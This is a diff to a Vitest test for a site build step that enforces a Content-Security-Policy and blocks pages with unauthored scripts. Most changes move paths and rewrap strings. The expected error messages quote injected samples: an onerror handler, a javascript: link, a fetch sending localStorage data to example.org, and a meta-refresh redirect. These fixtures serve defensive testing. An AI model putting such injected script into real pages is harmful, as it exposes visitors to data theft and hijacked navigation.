@@ -9,7 +9,7 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
-import { sha256 } from '../../scripts/build/csp.ts';
+import { sha256 } from '../../src/build/csp.ts';
 import { root } from '../site/support/build.ts';
 
 const themeSource = readFileSync(
@@ -19,7 +19,8 @@ const themeSource = readFileSync(
 const themeScript = /<script is:inline>([\s\S]*?)<\/script>/.exec(themeSource)![1]!;
 
 function page(body: string): string {
-  return `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"/><title>页</title><script>${themeScript}</script></head><body>${body}</body></html>`;
+  const head = `<meta charset="utf-8"/><title>页</title><script>${themeScript}</script>`;
+  return `<!DOCTYPE html><html lang="zh-CN"><head>${head}</head><body>${body}</body></html>`;
 }
 
 /** A built folder with the given pages (path → HTML). */
@@ -33,7 +34,7 @@ function dist(pages: Record<string, string>): string {
 }
 
 function secureDist(dir: string) {
-  const r = spawnSync(process.execPath, ['node_modules/tsx/dist/cli.mjs', 'scripts/build/secure-dist.ts', dir], {
+  const r = spawnSync(process.execPath, ['node_modules/tsx/dist/cli.mjs', 'src/build/secure-dist.ts', dir], {
     cwd: root,
     env: { ...process.env, BASE_PATH: '/' },
     encoding: 'utf8',
@@ -51,9 +52,8 @@ describe('npm run secure-dist', () => {
     expect(run.stderr).toBe('');
     expect(run.code).toBe(0);
     const html = readFileSync(path.join(dir, 'index.html'), 'utf8');
-    expect(html).toMatch(
-      /<head><meta charset="utf-8"\/><meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-[^']+';/,
-    );
+    expect(html).toContain('<head><meta charset="utf-8"/><meta http-equiv="Content-Security-Policy" content="');
+    expect(html).toMatch(/content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-[^']+';/);
     expect(html).toContain(sha256(themeScript));
     expect(readFileSync(path.join(dir, '_headers'), 'utf8')).toContain(
       `script-src 'self' 'wasm-unsafe-eval' ${sha256(themeScript)};`,
@@ -81,8 +81,10 @@ describe('npm run secure-dist', () => {
       '构建已停止：3 个页面含有本站没有写过的脚本或跳转，内容安全策略不会放行它们。',
       `${path.join(shown, 'departments/d-x/index.html')}: 事件处理属性（on…）：<img onerror>`,
       `${path.join(shown, 'departments/d-x/index.html')}: javascript: 链接：<a href="javascript:alert(2)">`,
-      `${path.join(shown, 'documents/x/index.html')}: 未知的内联脚本（不是 Starlight、Astro 或本站写的）：fetch("https://example.org/?"+localStorage.length)`,
-      `${path.join(shown, 'targets/index.html')}: 会让页面跳转或改写设置的 <meta http-equiv>：<meta http-equiv="refresh" content="0;url=https://example.org/">`,
+      `${path.join(shown, 'documents/x/index.html')}: 未知的内联脚本（不是 Starlight、Astro 或本站写的）：` +
+        'fetch("https://example.org/?"+localStorage.length)',
+      `${path.join(shown, 'targets/index.html')}: 会让页面跳转或改写设置的 <meta http-equiv>：` +
+        '<meta http-equiv="refresh" content="0;url=https://example.org/">',
       '这通常说明政策原文中的文字被当作代码写进了页面：请找出写出这段文字的组件，改为按文本输出（不要用 set:html）。',
       '',
     ]);
